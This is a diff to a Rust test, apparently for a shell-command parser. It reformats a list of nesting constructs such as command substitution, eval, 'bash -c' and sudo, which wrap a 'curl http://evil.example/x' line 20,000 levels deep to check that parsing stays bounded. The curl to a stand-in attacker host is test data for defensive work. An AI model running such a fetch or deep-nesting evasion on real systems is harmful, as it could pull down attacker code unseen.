@@ -124,13 +124,25 @@ fn what_asks_for_more_than_its_size_is_worth_is_cut_and_says_so() {
 fn nothing_is_read_so_deep_that_the_stack_ends() {
     const DEEP: usize = 20_000;
     let openings = [
-        ("echo ", "$(", ")"), ("echo ", "${a:-", "}"), ("echo ", "${a:=", "}"), ("echo ", "`", "`"), ("", "(", ")"),
-        ("", "{ ", "; }"), ("echo ", "{a,", "}"), ("cat ", "<(", ")"), ("echo ", "$((", "))"), ("", "eval ", ""),
-        ("", "bash -c '", "'"), ("", "sudo ", ""), ("", "if true; then ", "; fi"), ("", "f() { ", "; }"),
+        ("echo ", "$(", ")"),
+        ("echo ", "${a:-", "}"),
+        ("echo ", "${a:=", "}"),
+        ("echo ", "`", "`"),
+        ("", "(", ")"),
+        ("", "{ ", "; }"),
+        ("echo ", "{a,", "}"),
+        ("cat ", "<(", ")"),
+        ("echo ", "$((", "))"),
+        ("", "eval ", ""),
+        ("", "bash -c '", "'"),
+        ("", "sudo ", ""),
+        ("", "if true; then ", "; fi"),
+        ("", "f() { ", "; }"),
     ];
     for (before, opening, closing) in openings {
         for closing in [closing, ""] {
-            let script = [before, &opening.repeat(DEEP), "curl http://evil.example/x", &closing.repeat(DEEP)].concat();
+            let script =
+                [before, &opening.repeat(DEEP), "curl http://evil.example/x", &closing.repeat(DEEP)].concat();
             let shell = read(&script);
             let kept: usize = shell.commands.iter().map(String::len).sum();
             assert!(kept <= LEAST_ROOM + ROOM_PER_BYTE * script.len(), "{opening}");
